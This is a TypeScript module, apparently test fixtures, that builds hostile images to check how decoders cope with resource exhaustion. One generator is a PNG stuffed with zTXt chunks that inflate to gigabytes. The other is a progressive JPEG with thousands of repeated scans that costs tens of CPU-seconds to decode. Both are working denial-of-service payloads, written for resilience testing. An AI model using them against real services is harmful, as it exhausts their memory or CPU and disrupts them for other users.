/**
 * Hostile images that cost a decoder far more than their size: what an attacker uploads to exhaust memory or CPU.
 * Deterministic and built in code from small sharp outputs.
 */
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

const PNG_SIGNATURE_BYTES = 8;
const MIB = 1024 * 1024;

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

/**
 * A small valid PNG carrying `chunks` zTXt chunks that each inflate to `inflatedMib` MiB of text: a few MB on disk,
 * gigabytes in a decoder that inflates every text chunk while reading the header.
 */
export async function ztxtBombPng(options: { chunks?: number; inflatedMib?: number } = {}): Promise<Buffer> {
  const chunks = options.chunks ?? 300;
  const inflated = deflateSync(Buffer.alloc((options.inflatedMib ?? 20) * MIB, 0x41), { level: 9 });
  const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#336699' } })
    .png()
    .toBuffer();
  // IHDR is the first chunk: 4 length + 4 type + 13 data + 4 CRC bytes after the signature.
  const afterHeader = PNG_SIGNATURE_BYTES + 25;
  const text = Array.from({ length: chunks }, (_, index) =>
    // keyword, NUL, compression method 0 (deflate), compressed text
    pngChunk('zTXt', Buffer.concat([Buffer.from(`Comment${index}\0\0`, 'latin1'), inflated])),
  );
  return Buffer.concat([png.subarray(0, afterHeader), ...text, png.subarray(afterHeader)]);
}

interface JpegScan {
  /** The Huffman tables defined right before the scan, then its SOS segment and entropy-coded data. */
  readonly bytes: Buffer;
  /** Offset of the SOS marker inside `bytes`. */
  readonly sos: number;
}

/** Splits a JPEG into what precedes its first scan and its scans (each with the DHT segments just before it). */
function jpegScans(jpeg: Buffer): { head: Buffer; scans: JpegScan[] } {
  const segmentEnd = (at: number) => at + 2 + jpeg.readUInt16BE(at + 2);
  let offset = 2;
  let unitStart = offset;
  while (jpeg[offset + 1] !== 0xda) {
    if (jpeg[offset + 1] !== 0xc4) unitStart = segmentEnd(offset);
    offset = segmentEnd(offset);
  }
  const head = jpeg.subarray(0, unitStart);
  const scans: JpegScan[] = [];
  let sos = offset;
  let i = segmentEnd(sos);
  // Entropy data ends at the next marker that is neither a stuffed 0xFF00 nor a restart marker.
  while (i < jpeg.length - 1) {
    const next = jpeg[i + 1]!;
    if (jpeg[i] !== 0xff || next === 0x00 || (next >= 0xd0 && next <= 0xd7)) {
      i++;
      continue;
    }
    if (next === 0xd9 || next === 0xc4 || next === 0xda) {
      if (next !== 0xc4 || jpeg[sos + 1] === 0xda) {
        scans.push({ bytes: jpeg.subarray(unitStart, i), sos: sos - unitStart });
        unitStart = i;
      }
      if (next === 0xd9) break;
      sos = i;
      i = segmentEnd(i);
      continue;
    }
    i = segmentEnd(i);
  }
  return { head, scans };
}

/**
 * A valid progressive JPEG of `size`×`size` grey pixels with `scans` scans: about half a megabyte on disk, but every
 * scan makes the decoder walk every block of the image again (tens of CPU-seconds at 7000×7000 and 2600 scans).
 * The extra scans repeat an AC first scan at full precision (Ah = Al = 0), which libjpeg accepts as a consistent
 * progression; on a flat picture every AC coefficient is zero, so the same entropy data (runs of EOB) is valid at any
 * precision.
 */
export async function manyScansJpeg(options: { size?: number; scans?: number } = {}): Promise<Buffer> {
  const size = options.size ?? 7000;
  const jpeg = await sharp({ create: { width: size, height: size, channels: 3, background: '#808080' } })
    .jpeg({ progressive: true, quality: 90 })
    .toBuffer();
  const { head, scans } = jpegScans(jpeg);
  const acFirst = scans.find((scan) => {
    const header = scan.bytes.subarray(scan.sos);
    const components = header[4]!;
    const spectralStart = header[5 + 2 * components]!;
    return spectralStart > 0;
  });
  if (!acFirst) throw new Error('the progressive JPEG has no AC scan to repeat');
  const repeated = Buffer.from(acFirst.bytes);
  const components = repeated[acFirst.sos + 4]!;
  repeated[acFirst.sos + 7 + 2 * components] = 0x00; // Ah = 0, Al = 0
  const repeats = Math.max(0, (options.scans ?? 2600) - scans.length);
  return Buffer.concat([
    head,
    ...scans.map((scan) => scan.bytes),
    ...Array.from({ length: repeats }, () => repeated),
    Buffer.from([0xff, 0xd9]),
  ]);
}
